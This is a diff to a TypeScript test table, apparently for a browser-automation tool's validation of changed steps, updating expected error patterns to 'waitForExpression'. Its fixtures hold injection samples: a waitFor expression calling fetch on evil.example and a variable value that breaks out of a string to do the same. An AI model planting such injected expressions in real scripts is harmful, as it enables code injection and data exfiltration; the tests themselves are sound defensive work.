@@ -76,7 +76,7 @@ test.each<[string, Change, Change, RegExp | null]>([
     'an expression',
     {},
     { steps: [open('https://shop.example/'), TYPE, waitFor('fetch("//evil.example")')] },
-    /expressions/,
+    /waitForExpression/,
   ],
   [
     'a variable in an expression',
@@ -85,7 +85,7 @@ test.each<[string, Change, Change, RegExp | null]>([
       steps: [open('https://shop.example/'), waitFor('a == "{{path}}"')],
       variables: { path: '"+fetch("//evil.example")+"' },
     },
-    /expressions/,
+    /waitForExpression/,
   ],
   [
     'the same expression',
